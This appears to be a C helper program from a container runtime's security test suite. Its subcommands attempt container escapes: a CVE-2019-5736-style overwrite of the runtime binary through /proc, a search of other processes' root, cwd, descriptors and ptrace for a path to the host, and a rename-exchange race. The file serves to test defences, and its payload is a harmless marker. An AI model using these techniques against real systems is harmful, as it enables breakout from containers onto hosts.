/* The attacker of the attack tests, one way of attack per subcommand. Static: it runs in containers.
 *
 * It prints one line with its success, and ends; without success it goes on until it is killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Own programs: those of the image, which are no prey. */
static struct stat own[8];
static int owned;

static int is_own(int fd)
{
	struct stat found;
	if (fstat(fd, &found) < 0)
		return 1;
	for (int i = 0; i < owned; i++)
		if (same(&found, &own[i]))
			return 1;
	return !S_ISREG(found.st_mode);
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* The program of a process, or a file that it maps. */
static int prey_of(const char *pid, int mapped)
{
	char path[512];
	int fd = -1;
	if (!mapped) {
		snprintf(path, sizeof path, "/proc/%s/exe", pid);
		fd = open(path, O_PATH);
		if (fd < 0 || !is_own(fd))
			return fd;
		close(fd);
		return -1;
	}
	snprintf(path, sizeof path, "/proc/%s/map_files", pid);
	DIR *maps = opendir(path);
	if (!maps)
		return -1;
	struct dirent *entry;
	while (fd < 0 && (entry = readdir(maps))) {
		fd = openat(dirfd(maps), entry->d_name, O_PATH);
		if (fd >= 0 && is_own(fd)) {
			close(fd);
			fd = -1;
		}
	}
	closedir(maps);
	return fd;
}

/* binary|mapped FIFO OWN...: overwrite the program of any process that is not one of ours (CVE-2019-5736).
 * A runtime that was made to execute itself waits at FIFO, which it opens as its log. */
static int binary(char **argv, int mapped)
{
	const char *fifo = *argv++;
	for (; *argv && owned < 8; argv++)
		if (stat(*argv, &own[owned]) == 0)
			owned++;
	char self[32];
	snprintf(self, sizeof self, "%d", getpid());
	puts("ready");
	fflush(stdout);
	int prey = -1;
	while (prey < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && prey < 0 && (entry = readdir(proc)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self))
				prey = prey_of(entry->d_name, mapped);
		if (proc)
			closedir(proc);
	}
	puts("caught");
	fflush(stdout);
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", prey);
	double end = now() + 8;
	int gate = -1;
	while (now() < end) {
		if (gate < 0)
			gate = open(fifo, O_RDONLY | O_NONBLOCK);
		int file = open(path, O_WRONLY | O_APPEND);
		if (file >= 0) {
			if (write(file, "overwritten", 11) == 11) {
				puts("overwritten");
				return 0;
			}
			printf("write: %s\n", strerror(errno));
			return 1;
		}
		if (errno != ETXTBSY) {
			printf("open: %s\n", strerror(errno));
			return 1;
		}
		usleep(1000);
	}
	puts("busy");
	return 1;
}

/* Whether a descriptor leads to the host: to its /proc, or to a directory with the secret. */
static int is_host(int fd, const char *pid, const char *secret)
{
	char path[4096];
	snprintf(path, sizeof path, "%s/comm", pid);
	int file = openat(fd, path, O_RDONLY);
	if (file < 0)
		file = openat(fd, secret, O_RDONLY);
	if (file < 0)
		return 0;
	close(file);
	return 1;
}

/* Whether a process lets itself be traced while it does not yet run a program of the image. */
static int traced(pid_t pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return 0;
	int status, caught = 0;
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		int fd = open(path, O_PATH);
		caught = fd >= 0 && !is_own(fd);
		if (fd >= 0)
			close(fd);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	return caught;
}

/* reach HOSTPID SECRET: look through every process for a way to the host. */
static int reach(char **argv)
{
	const char *pid = argv[0], *secret = argv[1];
	char self[32], path[512];
	for (const char *const *one = (const char *const[]){"/attacker", "/bin/busybox", NULL}; *one; one++)
		if (stat(*one, &own[owned]) == 0)
			owned++;
	snprintf(self, sizeof self, "%d", getpid());
	puts("ready");
	fflush(stdout);
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			const char *name = entry->d_name;
			if (name[0] < '1' || name[0] > '9' || !strcmp(name, self) || !strcmp(name, "1"))
				continue;
			for (const char *const *way = (const char *const[]){"root", "cwd", NULL}; *way; way++) {
				snprintf(path, sizeof path, "/proc/%s/%s", name, *way);
				int fd = open(path, O_PATH | O_DIRECTORY);
				if (fd >= 0 && is_host(fd, pid, secret)) {
					printf("reached %s\n", *way);
					return 0;
				}
				if (fd >= 0)
					close(fd);
			}
			if (traced(atoi(name))) {
				printf("reached trace\n");
				return 0;
			}
			for (int n = 0; n < 24; n++) {
				snprintf(path, sizeof path, "/proc/%s/fd/%d", name, n);
				int fd = open(path, O_PATH | O_DIRECTORY);
				if (fd < 0)
					continue;
				if (is_host(fd, pid, secret)) {
					printf("reached fd\n");
					return 0;
				}
				close(fd);
			}
		}
		if (proc)
			closedir(proc);
	}
}

/* own HOSTPID SECRET: whether this very process can reach the host through what it inherited. */
static int inherited(char **argv)
{
	int reached = is_host(AT_FDCWD, argv[0], argv[1]);
	char path[64];
	for (int n = 3; n < 64; n++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", n);
		int fd = open(path, O_PATH | O_DIRECTORY);
		reached |= fd >= 0 && is_host(fd, argv[0], argv[1]);
		if (fd >= 0)
			close(fd);
	}
	puts(reached ? "reached" : "nothing");
	return 0;
}

/* swap ONE OTHER: exchange two names for ever. */
static _Noreturn void swap(char **argv)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */);
}

/* capabilities: those in effect. */
static int capabilities(void)
{
	char line[256];
	FILE *status = fopen("/proc/self/status", "r");
	while (status && fgets(line, sizeof line, status))
		if (!strncmp(line, "CapEff:", 7))
			fputs(line, stdout);
	return 0;
}

int main(int argc, char **argv)
{
	signal(SIGPIPE, SIG_IGN);
	if (argc > 3 && !strcmp(argv[1], "binary"))
		return binary(argv + 2, 0);
	if (argc > 3 && !strcmp(argv[1], "mapped"))
		return binary(argv + 2, 1);
	if (argc > 3 && !strcmp(argv[1], "reach"))
		return reach(argv + 2);
	if (argc > 3 && !strcmp(argv[1], "inherited"))
		return inherited(argv + 2);
	if (argc > 3 && !strcmp(argv[1], "swap"))
		swap(argv + 2);
	return capabilities();
}
